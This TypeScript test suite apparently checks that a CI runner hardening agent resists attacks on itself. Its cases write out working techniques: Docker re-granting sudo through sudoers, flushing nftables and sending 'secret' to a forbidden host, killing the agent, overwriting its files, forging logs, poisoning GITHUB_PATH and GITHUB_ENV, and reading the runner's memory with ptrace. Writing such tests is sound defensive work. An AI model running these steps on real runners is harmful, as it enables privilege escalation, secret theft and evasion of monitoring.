// T41 to T55: privileges, and attacks on the protection itself.
import { FORBIDDEN, IMAGE, PLACES } from "@lockstep/testkit/privileged";
import { agentPids, traceInstances } from "../agent-processes.ts";
import { attack } from "../attack.ts";
import type { Case, Ending } from "../case.ts";
import { askedForEvil, either, fileExists, reachedEvil } from "../harm.ts";
import { python } from "../programs.ts";
import type { Finished, Stage } from "../stage.ts";

const EVIL = FORBIDDEN.a;
const TRY = `curl -s -m 3 http://${EVIL}/ || true; dig +tries=1 +timeout=1 secret.${FORBIDDEN.name} || true`;
const HARM = either(reachedEvil, askedForEvil);
const STATE = "/run/lockstep-harden-runner";
const SUITE = `${PLACES.action}/dist`;

const failedAsTampered = ({ post, report }: Finished): boolean =>
  post.conclusion === "failure" && report.tampering.length > 0 && report.reasons.includes("tampered");

/**
 * The agent is hit, by its process ids: the network must stay closed, and the job must fail with a report of what was seen until
 * then, from the log that lies there.
 */
async function againstAgent(stage: Stage, signal: "KILL" | "STOP"): Promise<Ending> {
  const world = await stage.world();
  await stage.protect(world);
  const pids = agentPids(world);
  if (pids.length === 0) throw new Error("there is no agent");
  await world.job.step("before", `${TRY}\nsleep 1`);
  await world.job.step("attack", `sudo kill -${signal} ${pids.join(" ")}\nsleep 0.5\n${TRY}`);
  if (await HARM(world)) return "undetected";
  const { post, report } = await stage.finish(world);
  const isTold = report.reasons.includes("agent-gone") && report.blocked.some(({ step }) => step === "before");
  return post.conclusion === "failure" && !post.timedOut && isTold ? "prevented" : "undetected";
}

/** Whatever the runner starts the next phase from. */
const OVERWRITE = `
for file in ${SUITE}/harden-runner/post.js ${SUITE}/suite/index.js; do
  echo 'process.exit(0)' > "$file" || true
  rm -f "$file" || true
done
mv ${SUITE} ${SUITE}.gone && mkdir -p ${SUITE}/harden-runner && echo > ${SUITE}/harden-runner/post.js || true
cp --remove-destination /bin/true ${PLACES.node} || true`;

export const TAMPER_CASES: readonly Case[] = [
  {
    id: "T41",
    title: "Docker gives sudo back after it was taken away",
    outcome: "prevented",
    why: "With `containers: filter` or `disable`. `sudo: disable` alone cannot hold it and says so.",
    run: attack({
      docker: true,
      settings: { sudo: true },
      inputs: { sudo: "disable", containers: "filter" },
      act: `
docker run --rm -v /etc/sudoers.d:/s ${IMAGE} sh -c 'echo "runner ALL=(ALL) NOPASSWD:ALL" > /s/again; chmod 440 /s/again' || true
sudo -n touch ${PLACES.home}/was-root || true`,
      harm: fileExists(`${PLACES.home}/was-root`),
    }),
  },
  {
    id: "T42",
    title: "A process that already has Docker's group goes on using the socket",
    outcome: "prevented",
    run: attack({
      docker: true,
      inputs: { sudo: "disable", containers: "disable" },
      act: `
id -nG | grep -qw docker
for socket in /run/docker.sock /var/run/docker.sock /run/containerd/containerd.sock /run/docker/containerd/containerd.sock; do
  DOCKER_HOST=unix://$socket docker run --rm -v /etc:/host ${IMAGE} touch /host/taken || true
done`,
      harm: fileExists("/etc/taken"),
    }),
  },
  {
    id: "T43",
    title: "Other ways to root that an image brings along: polkit, at, cron, snap, lxd, setuid programs",
    outcome: "out-of-scope",
    why: "Which of them exist is the image's matter. Writes to sudoers, cron and service folders are detected.",
  },
  {
    id: "T44",
    title: "Root flushes the rules, deletes the table, or opens a chain",
    outcome: "detected",
    why: "For up to two seconds the network is open: with sudo kept the promise is detection and a failed job.",
    run: attack({
      control: false,
      // All the while: when the rules are looked at next is not known.
      act: python(`
import socket, subprocess, time
sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
flush = subprocess.Popen(["sudo", "nft", "flush", "ruleset"])
ended = None
while ended is None or time.monotonic() < ended + 3:
    try: sender.sendto(b"secret", ("${EVIL}", 4444))
    except OSError: pass
    if ended is None and flush.poll() is not None: ended = time.monotonic()
    time.sleep(0.001)`),
      harm: reachedEvil,
      sign: failedAsTampered,
    }),
  },
  {
    id: "T45",
    title: "The agent is killed, or frozen: the network stays closed and the job fails",
    outcome: "prevented",
    run: async (stage) => {
      const killed = await againstAgent(stage, "KILL");
      const frozen = await againstAgent(stage, "STOP");
      return killed === "prevented" ? frozen : killed;
    },
  },
  {
    id: "T46",
    title: "Tracing is switched off",
    outcome: "detected",
    run: attack({
      control: false,
      act: async (world) => {
        const [instance] = traceInstances(world);
        if (instance === undefined) throw new Error("the agent traces nothing");
        await world.job.step(
          "attack",
          `for setting in tracing_on tracing_cpumask; do
  echo 0 | sudo tee /sys/kernel/tracing/instances/${instance}/$setting
  sleep 3
done`,
        );
      },
      // That it could be done is the harm.
      harm: async () => true,
      sign: ({ post, report }) =>
        post.conclusion === "failure" &&
        ["tracing_on", "tracing_cpumask"].every((setting) =>
          report.detections.some(({ id, detail }) => id === "tracing-off" && detail.includes(setting)),
        ),
    }),
  },
  {
    id: "T47",
    title: "The action's files, its post phase or the runner's Node.js are overwritten before post",
    outcome: "prevented",
    run: async (stage) => {
      const world = await stage.world();
      const inputs = { sudo: "disable", containers: "disable" };
      await stage.protect(world, inputs);
      await world.job.step("attack", OVERWRITE);
      const post = await stage.phase(world, "post", inputs);
      if (post.outputs.get("report") !== undefined) return "prevented";
      return post.conclusion === "failure" ? "detected" : "undetected";
    },
  },
  {
    id: "T48",
    title: "Forged evidence in the folder of the log, or in folders that the job may write to",
    outcome: "prevented",
    run: attack({
      control: false,
      inputs: { sudo: "disable" },
      act: `
echo '{"forged":true}' >> ${STATE}/events.jsonl || true
mv ${STATE} ${STATE}.gone || true
rm -rf ${STATE} || true
touch ${STATE}/forged || true
mkdir -p ${PLACES.temporary}/lockstep-harden-runner && echo '{}' > ${PLACES.temporary}/lockstep-harden-runner/report.json`,
      harm: fileExists(`${STATE}/forged`),
      sign: ({ report }) => report.log.chain === "intact",
    }),
  },
  {
    id: "T49",
    title: "The job talks to the agent in the place of a phase",
    outcome: "prevented",
    why: "There is no service elsewhere and no key for one: only the control socket on the machine.",
    run: attack({
      control: false,
      inputs: { sudo: "disable" },
      act: `
for word in stop end quit shutdown report log; do
  printf '{"do":"%s"}\\n%s\\n' $word $word | timeout 1 busybox nc local:${STATE}/control/agent.sock || true
  ${PLACES.node} -e 'const s=require("net").connect("${STATE}/control/agent.sock");s.on("error",()=>process.exit());s.on("connect",()=>s.write(JSON.stringify({do:process.argv[1]})+"\\n"));setTimeout(()=>process.exit(),300)' $word || true
done
${TRY}`,
      harm: HARM,
      sign: ({ report }) => report.log.chain === "intact" && !report.reasons.includes("agent-gone"),
    }),
  },
  {
    id: "T50",
    title: "Variables, state and a search path that a step leaves for later phases",
    outcome: "prevented",
    why: "`LD_PRELOAD` is not defended against: the runner hands it to every later step before any of our code runs.",
    run: attack({
      control: false,
      act: `
mkdir -p ${PLACES.temporary}/bin
for tool in sudo nft ip setpriv systemctl id node git; do
  printf '#!/bin/sh\\ntouch ${PLACES.temporary}/sprung\\nexit 0\\n' > ${PLACES.temporary}/bin/$tool
  chmod 755 ${PLACES.temporary}/bin/$tool
done
echo ${PLACES.temporary}/bin >> "$GITHUB_PATH"
for name in STATE_pid STATE_report STATE_agent LOCKSTEP_STATE NODE_PATH GIT_SSH; do echo "$name=/nonexistent" >> "$GITHUB_ENV"; done
printf 'STATE_role=interim\\nSTATE_started=unsupported\\nSTATE_watched=false\\n' >> "$GITHUB_ENV"`,
      // Post runs within the sign, and what it would spring is looked at there.
      harm: async () => false,
      sign: ({ report }) => report.log.chain === "intact" && report.protection === "enforcing",
    }),
  },
  {
    id: "T51",
    title: "The policy file is changed after protection started",
    outcome: "prevented",
    why: "It is read once, from GitHub, at the commit that can be trusted.",
    run: async (stage) => {
      const world = await stage.world();
      const inputs = { config: ".github/lockstep.yml", token: "test-token" };
      const pre = await stage.phase(world, "pre", inputs);
      const asked = (await world.internet.arrivals()).some(
        (arrival) => arrival.kind === "http" && decodeURIComponent(arrival.path).includes(inputs.config),
      );
      if (pre.conclusion !== "success" || !asked) throw new Error(`the policy was not asked for: ${pre.log}`);
      const policy = `version: 1\\nharden-runner:\\n  mode: audit\\n  allowed-endpoints: ["${FORBIDDEN.name}:80"]\\n`;
      await world.job.step("edit", `mkdir -p .github; printf '${policy}' > .github/lockstep.yml`);
      await stage.phase(world, "main", inputs);
      await world.internet.forget();
      await world.job.step("attack", TRY);
      return (await HARM(world)) ? "undetected" : "prevented";
    },
  },
  {
    id: "T52",
    title: "Memory of Runner.Worker is read: /proc/PID/mem, ptrace, process_vm_readv",
    outcome: "detected",
    why: "`memory: protect` prevents it where the kernel has Yama.",
    run: attack({
      act: (world) =>
        world.job.step(
          "attack",
          python(`
import ctypes
worker = ${world.job.worker.pid}
line = next(line for line in open(f"/proc/{worker}/maps") if "[heap]" in line)
start = int(line.split("-")[0], 16)
with open(f"/proc/{worker}/mem", "rb") as memory:
    memory.seek(start)
    print(len(memory.read(64)))
libc = ctypes.CDLL(None, use_errno=True)
class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
buffer = ctypes.create_string_buffer(64)
mine, theirs = Piece(ctypes.addressof(buffer), 64), Piece(start, 64)
if libc.process_vm_readv(worker, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) == 64:
    open("${PLACES.temporary}/was-read", "w").close()
libc.ptrace(0x4206, worker, None, None)`),
        ),
      harm: fileExists(`${PLACES.temporary}/was-read`),
      sign: ({ report }) => report.detections.some(({ id }) => id === "memory-read"),
    }),
  },
  {
    id: "T53",
    title: "A process leaves its step: new session, empty environment, adopted by another",
    outcome: "prevented",
    why: "Its calls are still reported under the step that started it. A step that lasts less than 25 ms may have no name.",
    run: attack({
      act: async (world) => {
        const late = `sleep 1; ${TRY}`;
        await world.job.step(
          "leaver",
          `setsid --fork env -i PATH=/usr/bin:/bin sh -c '${late}' < /dev/null > /dev/null 2>&1; sleep 0.2`,
        );
        await world.job.step("next", "sleep 3");
      },
      harm: HARM,
      sign: ({ report }) => report.blocked.some(({ addresses, step }) => addresses.includes(EVIL) && step === "leaver"),
    }),
  },
  {
    id: "T54",
    title: "A process id is used again by another process",
    outcome: "out-of-scope",
    why: "It cannot be brought about here without changing the kernel's settings. Ids are told apart by the start of their process.",
  },
  {
    id: "T55",
    title: "A flood of processes: whatever is lost is counted and shown",
    outcome: "detected",
    run: attack({
      control: false,
      act: (world) =>
        world.job.step(
          "flood",
          "for i in $(seq 20000); do (:) & [ $((i % 200)) = 0 ] && wait; done; wait; for i in $(seq 3000); do /bin/true; done",
          { timeoutMs: 60_000 },
        ),
      harm: async () => true,
      sign: ({ report }) => report.counts.processes >= 3000 || report.gaps.some(({ count = 0 }) => count > 0),
    }),
  },
];
